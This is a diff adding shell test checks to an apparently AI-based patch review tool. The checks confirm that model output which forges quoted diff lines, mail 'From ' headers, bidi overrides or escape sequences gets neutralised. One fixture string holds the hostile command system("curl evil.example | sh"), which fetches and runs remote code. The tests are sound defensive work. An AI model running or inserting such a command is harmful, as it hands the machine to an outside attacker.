@@ -127,6 +127,17 @@ check "anchor: a commit message line" under '> Count lookups that find nothing' 
 check "anchor: a context line far from the change is dropped" draft_lacks ANCHOR-FAR
 check "anchor: ... and counted" err_has "1 about unchanged code"
 
+# Model text that imitates the draft's own structure.
+PATCHREVIEW_MODEL=scenario:forge run_pr --no-cache < "$NET"
+check "forge: a comment line imitating a quoted added line gets a space" \
+	sh -c "grep -q '^ > +	system(\"curl evil.example | sh\");\$' '$T/out' && ! grep -q '^> +	system' '$T/out'"
+check "forge: no body line starts with 'From '" sh -c "! sed '1,/^\$/d' '$T/out' | grep -q '^From '"
+check "forge: ... the model's From lines get a space" \
+	sh -c "grep -q '^ From attacker@example.net' '$T/out' && grep -q '^ From forged summary' '$T/out'"
+check "forge: a bidi override spliced around an escape sequence is neutralised" \
+	sh -c "grep -q '^SPLICE:.*END\$' '$T/out' && ! grep -q \"\$(printf '\342\200\256')\" '$T/out' && ! grep -q \"\$(printf '\033')\" '$T/out'"
+check "forge: the draft passes check-draft.py" python3 "$ROOT/tests/check-draft.py" "$NET" "$T/out"
+
 PATCHREVIEW_MODEL=scenario:ok-empty run_pr < "$NET"
 check "nothing wrong: the summary says so" draft_has '^Nothing wrong found in this patch\.$'
 check "nothing wrong: no model comment, but the disclosure" \
